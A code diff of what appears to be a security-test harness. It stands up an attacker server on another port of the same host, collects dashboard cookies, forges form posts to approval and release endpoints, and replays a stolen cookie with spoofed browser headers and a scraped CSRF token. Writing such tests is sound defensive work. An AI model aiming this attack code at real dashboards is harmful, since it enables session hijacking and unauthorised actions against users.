@@ -1,8 +1,8 @@
-// A server of somebody else on another port of the same host. Browsers send it the cookie of the dashboard, because
+// An attacker's server on another port of the same host. Browsers send it the cookie of the dashboard, because
 // cookies ignore ports, and treat its pages as same-site.
 import { createServer } from "node:http";
 
-/** What the attacker's page does in the person's browser. `target` is the dashboard. */
+/** The script of the attacker's page in the person's browser. `target` is the dashboard. */
 const script = (target) => `
   const target = ${JSON.stringify(target)};
   window.read = [];
@@ -21,7 +21,7 @@ const script = (target) => `
     form.submit();
   };
   const attack = async () => {
-    const fields = { session: "cleaner", word: "", ticket: "", why: "x", back: "inbox", key: "k1", secret: "" };
+    const fields = { session: "cleaner", csrf_token: "", ticket: "", why: "x", back: "inbox", key: "k1", secret: "" };
     for (const act of ["approve", "release", "say", "stop"]) form("/act/" + act, { ...fields, text: "yes" });
     for (const path of ["/", "/sessions/cleaner", "/v1/inbox", "/v1/sessions/cleaner/events"]) {
       for (const mode of ["cors", "no-cors"]) {
@@ -46,7 +46,7 @@ const script = (target) => `
   attack().finally(() => { window.finished = true; });
 `;
 
-/** Starts it; `cookies` has each Cookie header that a browser sent. */
+/** Starts the server; `cookies` has each Cookie header that a browser sent. */
 export const attacker = async (target) => {
   const cookies = new Set();
   const server = createServer((request, response) => {
@@ -58,7 +58,7 @@ export const attacker = async (target) => {
   return { cookies, port: server.address().port, close: () => server.close() };
 };
 
-/** Uses a stolen cookie from a program, with every header that a browser would send. Gives all that was read. */
+/** Uses a stolen cookie from a program, with every header that a browser would send. Returns everything that was read. */
 export const replay = async (target, cookie, session) => {
   const headers = { Cookie: cookie, Origin: target, Referer: `${target}/`, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate", Accept: "text/html" };
   const read = [];
@@ -71,8 +71,8 @@ export const replay = async (target, cookie, session) => {
   const field = (page, name) => new RegExp(`name="${name}" value="([^"]*)"`).exec(page)?.[1] ?? "";
   for (const path of ["/", `/sessions/${session}`]) {
     const page = await get(path);
-    const token = field(page, "word");
-    const fields = { word: token, session, ticket: field(page, "ticket"), key: `stolen-${Math.random()}`, why: "x", text: "yes", back: "inbox" };
+    const token = field(page, "csrf_token");
+    const fields = { csrf_token: token, session, ticket: field(page, "ticket"), key: `stolen-${Math.random()}`, why: "x", text: "yes", back: "inbox" };
     for (const act of ["approve", "release", "say"]) {
       const body = new URLSearchParams(fields);
       await fetch(`${target}/act/${act}`, { method: "POST", headers, body, redirect: "manual" }).then((answer) => answer.text());
